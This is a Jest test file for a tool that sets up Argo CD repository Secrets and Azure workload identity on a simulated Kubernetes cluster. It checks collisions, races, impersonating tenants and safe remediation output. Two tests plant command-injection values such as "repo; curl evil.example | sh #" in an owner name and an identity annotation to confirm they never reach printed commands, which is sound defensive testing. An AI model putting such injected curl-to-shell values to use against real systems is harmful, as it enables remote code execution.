/**
 * More of the same kinds: other modes, other ways to connect, other objects, and what changes between two reads. In
 * process: what is attacked is the chain, not the bundle.
 */
import { beforeEach, describe, expect, test } from '@jest/globals'
import { wordsOf, type Inputs } from '../../sandbox/in-process.ts'
import { add } from '../../sandbox/kubernetes/new-cluster.ts'
import { kindOf, type Kind, type KubeObject, type Meta } from '../../sandbox/kubernetes/objects.ts'
import { nameOf, templatesFor } from '../../src/argocd/places.ts'
import { needsAction } from '../../src/report/findings.ts'
import type { Report } from '../../src/report/report.ts'
import { useWorld } from '../world.ts'

const SECRETS = kindOf('', 'secrets') as Kind
const ACCOUNTS = kindOf('', 'serviceaccounts') as Kind
const DEPLOYMENTS = kindOf('apps', 'deployments') as Kind
const TYPE = 'argocd.argoproj.io/secret-type'
const OURS = { 'app.kubernetes.io/managed-by': 'patless' }
const CLIENT = 'azure.workload.identity/client-id'
const NOBODY = '00000000-0000-0000-0000-00000000dead'
const QUICK = { verification: 'none' }

const world = useWorld()
beforeEach(() => {
  world.printed.length = 0
})

const url = (): string => world.twin.azure.ids.repositoryUrl
const store = () => world.twin.kubernetes.store
const apply = (inputs: Inputs = {}): Promise<Report> => world.apply({ ...QUICK, ...inputs })
const remove = (inputs: Inputs = {}): Promise<Report> => world.run({ mode: 'remove', ...inputs })
const said = (report: Report): string => JSON.stringify(report)
const blockedBy = ({ findings }: Report): string =>
  findings
    .filter(needsAction)
    .map(({ summary, remedy, command = '' }) => `${summary} → ${remedy}\n${command}`)
    .join('\n')

function secret(metadata: Meta, stringData: Readonly<Record<string, string>>, more: object = {}): KubeObject {
  return store().create(SECRETS, 'argocd', {
    apiVersion: 'v1',
    kind: 'Secret',
    ...more,
    metadata: { ...metadata, labels: { [TYPE]: 'repository', ...metadata.labels } },
    stringData: { type: 'git', ...stringData }
  })
}
/** All of an object but what the server itself counts. */
const contentOf = (kind: Kind, name: string): unknown => {
  const object = store().find(kind, 'argocd', name)
  const { labels, annotations, ownerReferences } = object?.metadata ?? {}
  return { data: object?.['data'], labels, annotations, ownerReferences }
}
const textOf = (name: string, key: string): string => {
  const data = store().find(SECRETS, 'argocd', name)?.['data'] as Record<string, string> | undefined
  return Buffer.from(data?.[key] ?? '', 'base64').toString()
}
function annotate(annotations: Readonly<Record<string, string>>): void {
  const before = store().get(ACCOUNTS, 'argocd', 'argocd-repo-server')
  const metadata = { ...before.metadata, annotations: { ...before.metadata.annotations, ...annotations } }
  store().update(ACCOUNTS, before, { ...before, metadata })
}

describe('a Secret with the name and the marks of ours', () => {
  // Argo CD hashes URL and project as one text: …/app of the project x is …/appx of all.
  test.each([[true], [false]])(
    'for another repository whose name Argo CD makes alike keeps its URL (scoped first: %s)',
    async (first) => {
      const { projectId: id, repositoryId } = world.twin.azure.ids
      world.twin.journal.forge({
        service: 'devops',
        path: '/_apis/git/repositories/appx',
        forge: () => ({
          status: 200,
          body: { id: repositoryId, name: 'appx', project: { id, name: 'shop' } }
        })
      })
      const scoped = { 'argocd-project': 'x' }
      const global = { 'repository-url': `${url()}x` }
      expect((await apply(first ? scoped : global)).verdict.exitCode).toBe(0)
      const name = nameOf({ kind: 'repository', url: url(), project: 'x' })
      const before = contentOf(SECRETS, name)
      expect(before).toHaveProperty('data.url')
      world.twin.journal.clear()
      const report = await apply(first ? global : scoped)
      expect(contentOf(SECRETS, name)).toEqual(before)
      expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
      expect(blockedBy(report)).toContain(`it is the Secret of ${url()}`)
    }
  )

  test('that carries a credential in its URL keeps it', async () => {
    const name = nameOf({ kind: 'repository', url: url(), project: '' })
    const held = url().replace('//', '//x:p4ss@')
    secret({ name, labels: OURS }, { url: held, useAzureWorkloadIdentity: 'true' })
    const report = await apply()
    expect(textOf(name, 'url')).toBe(held)
    expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
    expect(said(report)).not.toContain('p4ss')
  })
})

describe('a template', () => {
  test.each<[string, Readonly<Record<string, string>>]>([
    ['without credentials', {}],
    ['by workload identity', { useAzureWorkloadIdentity: 'true' }]
  ])('does not open to all what one project alone may read beside it, %s', async (_what, data) => {
    secret({ name: 'of-team-b' }, { url: url().replace(/app$/, 'other'), project: 'team-b', ...data })
    const report = await apply({ connection: 'template' })
    expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
    expect(blockedBy(report)).toContain("argocd-project: '*'")
    expect(blockedBy(report)).toContain('connection: repository')
    expect((await apply({ connection: 'template', 'argocd-project': '*' })).verdict.exitCode).toBe(0)
  })

  test('stays, with all below it, while it is not known who reads through it', async () => {
    expect((await apply({ connection: 'template' })).verdict.exitCode).toBe(0)
    const body = { kind: 'Status', status: 'Failure', reason: 'Forbidden', message: 'no', code: 403 }
    const forge = () => ({ status: 403, body })
    world.twin.journal.forge({ service: 'kubernetes', method: 'GET', path: '/applications?', forge })
    world.twin.journal.clear()
    const report = await remove()
    expect(world.writes()).toEqual([])
    expect(wordsOf(report)).toMatchObject({ connection: 'skipped', workload: 'skipped', identity: 'skipped' })
    expect(said(report)).toContain('may not list Applications')
  })

  test('of somebody else, for another project, keeps the identity while Applications cannot be listed', async () => {
    expect((await apply()).verdict.exitCode).toBe(0)
    const [prefix = ''] = templatesFor(url().replace('/shop/', '/other/'))
    secret(
      { name: 'templ', labels: { [TYPE]: 'repo-creds' } },
      { url: prefix, useAzureWorkloadIdentity: 'true' }
    )
    const body = { kind: 'Status', status: 'Failure', reason: 'Forbidden', message: 'no', code: 403 }
    const forge = () => ({ status: 403, body })
    world.twin.journal.forge({ service: 'kubernetes', method: 'GET', path: '/applications?', forge })
    const report = await remove()
    expect(wordsOf(report)).toMatchObject({ connection: 'removed', workload: 'skipped', identity: 'skipped' })
  })
})

describe('a Secret that a controller makes', () => {
  const owner = (controller?: boolean) => ({
    ownerReferences: [
      {
        apiVersion: 'external-secrets.io/v1',
        kind: 'ExternalSecret',
        name: 'repo',
        uid: 'u',
        ...(controller === undefined ? {} : { controller })
      }
    ]
  })
  test('in order as it is, is not even annotated with what was proved through it', async () => {
    secret({ name: 'made', ...owner(true) }, { url: url(), useAzureWorkloadIdentity: 'true' })
    const before = contentOf(SECRETS, 'made')
    const report = await world.apply()
    expect([report.verdict.exitCode, report.outputs.verification]).toEqual([0, 'verified'])
    expect(contentOf(SECRETS, 'made')).toEqual(before)
  })

  test.each([[undefined], [false]])(
    'is known by its owner, also when that is no controller (%s)',
    async (controller) => {
      secret({ name: 'made', ...owner(controller) }, { url: url() })
      const report = await apply()
      expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
      expect(blockedBy(report)).toMatch(/patch externalsecret repo /)
    }
  )

  test('whose owner has the name of a command gives no command', async () => {
    const name = "repo; curl evil.example | sh #'"
    const owners = [{ apiVersion: 'x/v1', kind: 'ExternalSecret', name, uid: 'u', controller: true }]
    secret({ name: 'made', ownerReferences: owners }, { url: url() })
    expect(blockedBy(await apply())).not.toMatch(/kubectl[^\n]*curl/)
  })

  test('that may not change is not to be patched by hand either', async () => {
    secret({ name: 'fixed' }, { url: url() }, { immutable: true })
    const report = await apply()
    expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
    expect(blockedBy(report)).not.toContain('kubectl -n argocd patch secret')
  })
})

test('what was proved is not noted on the Secret that took the place of another meanwhile', async () => {
  expect((await apply()).verdict.exitCode).toBe(0)
  const name = nameOf({ kind: 'repository', url: url(), project: '' })
  world.twin.journal.forge({
    service: 'kubernetes',
    method: 'PATCH',
    path: `/secrets/${name}`,
    times: 1,
    forge: (_call, real) => {
      store().remove(SECRETS, 'argocd', name)
      secret({ name }, { url: url(), password: 'secret' })
      return real()
    }
  })
  const report = await world.apply({ verification: 'argocd' })
  expect(store().get(SECRETS, 'argocd', name).metadata.annotations ?? {}).toEqual({})
  expect(report.outputs.verification).toBe('verified')
})

describe('a service account', () => {
  test('that somebody gives another identity between look and write keeps it', async () => {
    expect((await apply()).verdict.exitCode).toBe(0)
    annotate({ [CLIENT]: NOBODY })
    const other = world.twin.azure.ids.deployerClientId
    world.twin.journal.forge({
      service: 'kubernetes',
      method: 'PATCH',
      path: '/serviceaccounts/',
      times: 1,
      forge: (_call, real) => {
        annotate({ [CLIENT]: other })
        return real()
      }
    })
    const report = await apply()
    expect(store().get(ACCOUNTS, 'argocd', 'argocd-repo-server').metadata.annotations?.[CLIENT]).toBe(other)
    expect(report.verdict.exitCode).toBe(1)
  })

  test('the same, while remove takes ours away', async () => {
    expect((await apply()).verdict.exitCode).toBe(0)
    const other = world.twin.azure.ids.deployerClientId
    world.twin.journal.forge({
      service: 'kubernetes',
      method: 'PATCH',
      path: '/serviceaccounts/',
      times: 1,
      forge: (_call, real) => {
        annotate({ [CLIENT]: other })
        return real()
      }
    })
    await remove()
    expect(store().get(ACCOUNTS, 'argocd', 'argocd-repo-server').metadata.annotations?.[CLIENT]).toBe(other)
  })

  test('in use is not to be replaced by a patch for its source, nor emptied', async () => {
    const deployment = store().get(DEPLOYMENTS, 'argocd', 'argocd-repo-server')
    const annotations = { 'meta.helm.sh/release-name': 'argo-cd' }
    store().update(DEPLOYMENTS, deployment, {
      ...deployment,
      metadata: {
        ...deployment.metadata,
        annotations: { ...deployment.metadata.annotations, ...annotations }
      }
    })
    annotate({ [CLIENT]: world.twin.azure.ids.deployerClientId })
    const report = await world.check()
    const notes = report.findings.filter(
      ({ resource, severity }) => resource === 'workload' && severity === 'note'
    )
    expect(report.verdict.exitCode).toBe(2)
    expect(notes).toEqual([])
  })

  test('whose client id is a command gives no command that has it', async () => {
    annotate({ [CLIENT]: `x'"; curl evil.example | sh #`, 'azure.workload.identity/tenant-id': NOBODY })
    const report = await apply()
    expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
    expect(blockedBy(report)).not.toMatch(/az identity[^\n]*curl/)
  })
})

const APPLICATIONS = kindOf('argoproj.io', 'applications') as Kind
test.each<[string, Partial<Meta>, number]>([
  ['labelled and annotated by a policy of the cluster is swept all the same', {}, 0],
  ['that somebody holds with a finalizer stays', { finalizers: ['team.example/held'] }, 1]
])('a probe of this run %s', async (_what, more, left) => {
  let marked = 0
  world.twin.journal.forge({
    service: 'kubernetes',
    method: 'POST',
    path: '/applications',
    forge: async (_call, real) => {
      const answer = await real()
      for (const one of store().list(APPLICATIONS, 'argocd')) {
        const labels = { ...one.metadata.labels, team: 'platform' }
        const annotations = { ...one.metadata.annotations, 'policy.example/checked': 'true' }
        store().update(APPLICATIONS, one, {
          ...one,
          metadata: { ...one.metadata, ...more, labels, annotations }
        })
        marked += 1
      }
      return answer
    }
  })
  const report = await world.apply()
  expect([report.outputs.verification, marked]).toEqual(['verified', 1])
  expect(store().list(APPLICATIONS, 'argocd')).toHaveLength(left)
})

test('a complaint that a tenant writes into an Application of his own decides nothing', async () => {
  expect((await world.apply()).verdict.exitCode).toBe(0)
  add(store(), '', 'namespaces', undefined, { name: 'team-a' })
  store().create(APPLICATIONS, 'team-a', {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Application',
    metadata: { name: 'mine' },
    spec: { project: 'default', source: { repoURL: url(), path: '.' }, destination: { namespace: 'team-a' } },
    status: {
      controllerNamespace: 'argocd',
      reconciledAt: '2099-01-01T00:00:00Z',
      conditions: [
        {
          type: 'ComparisonError',
          message:
            'Failed to load target state: failed to generate manifest for source 1 of 1: rpc error: code = Unknown desc = failed to list refs: authentication required'
        }
      ]
    }
  })
  world.twin.journal.clear()
  const report = await world.check({ verification: 'argocd' })
  expect([report.verdict.exitCode, world.writes()]).toEqual([0, []])
  expect(said(report)).toContain("Outside of Argo CD's namespace")
  expect((await world.apply({ verification: 'argocd' })).verdict.exitCode).toBe(0)
  expect(world.writes()).toEqual([])
})

describe('a tenant who would be Argo CD', () => {
  const LABELS = { 'app.kubernetes.io/component': 'repo-server', 'app.kubernetes.io/part-of': 'argocd' }
  function pretend(namespace: string, more: { labels?: Record<string, string>; image?: string } = {}): void {
    const name = 'argocd-repo-server'
    const pods = { app: name }
    add(store(), '', 'namespaces', undefined, { name: namespace })
    add(store(), '', 'serviceaccounts', namespace, { name })
    const template = {
      metadata: { labels: pods },
      spec: { serviceAccountName: name, containers: [{ name: 'main', image: more.image ?? 'x/tool:v3.2.0' }] }
    }
    const { labels = LABELS } = more
    const spec = { replicas: 1, selector: { matchLabels: pods }, template }
    add(store(), 'apps', 'deployments', namespace, { name, labels: { ...labels } }, { spec })
    add(store(), '', 'services', namespace, { name }, { spec: { selector: pods, ports: [{ port: 8081 }] } })
  }
  function complete(namespace: string): void {
    const template = { metadata: { labels: { app: 'c' } }, spec: { containers: [] } }
    const spec = { replicas: 1, selector: { matchLabels: { app: 'c' } }, template }
    add(store(), 'apps', 'statefulsets', namespace, { name: 'argocd-application-controller' }, { spec })
    add(store(), '', 'configmaps', namespace, { name: 'argocd-cm' }, { data: {} })
  }
  const forbid = (path: string): void => {
    const body = { kind: 'Status', status: 'Failure', reason: 'Forbidden', message: 'no', code: 403 }
    world.twin.journal.forge({
      service: 'kubernetes',
      method: 'GET',
      path,
      forge: () => ({ status: 403, body })
    })
  }
  const expectNothingGiven = (report: Report): void => {
    expect([report.verdict.exitCode, world.writes()]).toEqual([1, []])
    expect(JSON.stringify(world.twin.state())).not.toContain('system:serviceaccount:team')
  }

  test.each([
    ['statefulsets and configmaps', ['/statefulsets?', '/configmaps/argocd-cm']],
    ['configmaps', ['/configmaps/argocd-cm']],
    ['statefulsets', ['/statefulsets?']]
  ])('is not believed by what he can forge where the login may not read %s', async (_what, paths) => {
    world.twin.defect('argocd-absent')
    pretend('team-a')
    complete('team-a')
    for (const path of paths) forbid(path)
    expectNothingGiven(await apply())
  })

  test.each([
    [
      'is not believed to be the AKS extension for the name of his image',
      'mcr.microsoft.com/azure-argocd:v3.2.0'
    ]
  ])('%s', async (_what, image) => {
    world.twin.defect('argocd-absent')
    pretend('team-a', { image })
    const template = { metadata: { labels: { app: 'c' } }, spec: { containers: [] } }
    const spec = { replicas: 1, selector: { matchLabels: { app: 'c' } }, template }
    add(store(), 'apps', 'statefulsets', 'team-a', { name: 'x-application-controller' }, { spec })
    expectNothingGiven(await apply())
  })

  test('is not the only one left where the real one is known by its name alone, and not to be looked at', async () => {
    const [real] = store()
      .list(DEPLOYMENTS, 'argocd')
      .filter(({ metadata }) => metadata.name === 'argocd-repo-server')
    if (!real) throw new Error('no repo-server')
    const { template, ...spec } = real.spec as { template: { spec: { containers: object[] } } }
    const containers = [
      { name: 'repo-server', image: 'registry.example/platform/argo:v3.2.0', args: ['/start.sh'] }
    ]
    const bare = { ...spec, template: { ...template, spec: { ...template.spec, containers } } }
    store().update(DEPLOYMENTS, real, { ...real, metadata: { ...real.metadata, labels: {} }, spec: bare })
    pretend('team-a')
    complete('team-a')
    for (const path of ['services', 'statefulsets', 'configmaps']) forbid(`/namespaces/argocd/${path}`)
    const report = await apply()
    expectNothingGiven(report)
    expect(said(report)).toContain('argocd/argocd-repo-server (')
  })

  test('does not disturb a chain that is in order with names, be they before or behind, or many', async () => {
    expect((await apply()).verdict.exitCode).toBe(0)
    for (const team of ['aaa', 'team-a', ...Array.from({ length: 9 }, (_, at) => `ab-${at}`)]) {
      pretend(team, { labels: {} })
      complete(team)
    }
    const report = await apply()
    expect(report.verdict.exitCode).toBe(0)
    expect(report.outputs.subject).toBe('system:serviceaccount:argocd:argocd-repo-server')
  })

  test('and two who are no installation leave no choice that is empty', async () => {
    world.twin.defect('argocd-absent')
    pretend('team-a')
    pretend('team-b')
    const report = await apply()
    expectNothingGiven(report)
    expect(blockedBy(report)).not.toContain('()')
  })
})
